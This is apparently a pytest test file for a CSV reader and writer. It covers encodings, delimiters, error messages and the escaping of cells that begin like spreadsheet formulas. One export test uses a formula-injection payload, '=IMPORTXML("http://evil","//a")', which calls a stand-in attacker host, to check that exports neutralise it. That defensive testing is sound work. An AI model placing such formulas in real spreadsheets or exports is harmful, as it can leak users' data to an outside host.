"""The text of CSV files: what people's programs write is read, and nothing we write is run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from components.domain.workbook import Reading, parse
from components.storage import NotAWorkbook, Row
from components.storage.files import csv_of, grid_from_csv
from components.storage.files.delimited import marked, unmarked


def read_again(rows: dict[str, list[Row]]) -> Reading:
    return Reading({tab: grid_from_csv(data, tab) for tab, data in csv_of(rows).items()})


@pytest.mark.parametrize(
    ("data", "customer"),
    [
        ("Customer,Notes\nBéa,x\n".encode(), "Béa"),
        ("Customer,Notes\r\nBéa,x\r\n".encode("utf-8-sig"), "Béa"),
        ("Customer;Notes\nBéa, Ltd;x\n".encode("cp1252"), "Béa, Ltd"),
        ("Customer\tNotes\nBéa\tx\n".encode("utf-16"), "Béa"),
        ("sep=;\nCustomer;Notes\nBéa;x".encode(), "Béa"),
        (b'Customer;"Notes, and\nmore, of, them"\nAcme;x', "Acme"),
        (b"\n\nCustomer;Notes\nAcme, Ltd;x", "Acme, Ltd"),
        (b'Customer\n"Ac""me\nLtd"\n', 'Ac"me\nLtd'),
    ],
    ids=["utf-8", "utf-8 mark", "windows", "utf-16", "sep=", "quoted header", "late", "one column"],
)
def test_csv_of_any_countrys_spreadsheet_is_read(data: bytes, customer: str) -> None:
    frame = parse(Reading({"Customers": grid_from_csv(data, "Customers.csv")}))["Customers"]
    assert list(frame["customer"]) == [customer]


def test_rows_keep_the_numbers_people_see_whatever_their_length() -> None:
    grid = grid_from_csv(b'Customer,Notes\n"A\nB"\n\nC,x,y,z\n', "c.csv")
    assert grid == [["Customer", "Notes"], ["A\nB"], [], ["C", "x", "y", "z"]]


@pytest.mark.parametrize("data", [b"Name\n\x81\xff", b"PK\x03\x04\x00\x00", b"\xff\xfe\x00"])
def test_bytes_that_are_no_text_are_told_with_the_files_name(data: bytes) -> None:
    with pytest.raises(NotAWorkbook, match=r"Team.csv cannot be read: it is no text"):
        grid_from_csv(data, "Team.csv")


def test_a_cell_without_end_is_told_with_its_row() -> None:
    with pytest.raises(NotAWorkbook, match="row 2: field larger than field limit"):
        grid_from_csv(b'Name\n"' + b"x" * 1_000_001, "Team.csv")


def test_more_cells_than_the_limit_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("components.storage.files.delimited.MAX_CELLS", 100)
    with pytest.raises(NotAWorkbook, match="more than 100 cells"):
        grid_from_csv(b"\n" * 101, "Team.csv")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30", "'+49 30"),
        ("@ann", "'@ann"),
        ("-x", "'-x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''=1", "'''=1"),
        ("＝1", "'＝1"),
        ("-5", "-5"),
        ("+1,200.50", "+1,200.50"),
        ("-12.5%", "-12.5%"),
        ("-1e-07", "-1e-07"),
        ("'quoted'", "'quoted'"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_run_is_marked_and_numbers_are_not(
    text: str, written: str
) -> None:
    assert marked(text) == written
    assert unmarked(written) == text


@given(st.text(alphabet="'=+-@\t\r\n＝1a.,%") | st.text())
def test_marking_can_always_be_taken_back(text: str) -> None:
    assert unmarked(marked(text)) == text


def test_no_cell_of_an_exported_file_starts_like_a_formula() -> None:
    formula = '=IMPORTXML("http://evil","//a")'
    rows: dict[str, list[Row]] = {"Team": [{"name": formula, "email": "-2+3", formula: formula}]}
    text = csv_of(rows)["Team"].decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert sum(cell == f"'{formula}" for cell in cells) == 3
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    header, row = read_again(rows).tabs["Team"]
    assert (header[-1], row[0], row[1], row[-1]) == (formula, formula, "-2+3", formula)


def test_a_comma_country_gets_its_own_numbers_and_semicolons() -> None:
    rows: dict[str, list[Row]] = {
        "Settings": [
            {"setting": "locale", "value": "de_DE"},
            {"setting": "PMF target", "value": "37.5%"},
        ],
        "Customers": [{"customer": "A", "annual_value": 1.125}],
        "Roadmap": [{"item": "R", "confidence": "12.5%", "reach": 0.5}],
    }
    assert b";12,5%;" in csv_of(rows)["Roadmap"]
    book = parse(read_again(rows))
    assert book["Customers"].loc[2, "annual_value"] == 1.125
    assert list(book["Roadmap"].loc[2, ["confidence", "reach"]]) == [0.125, 0.5]
    assert book.settings.pmf_target == 0.375
    assert book.problems == ()
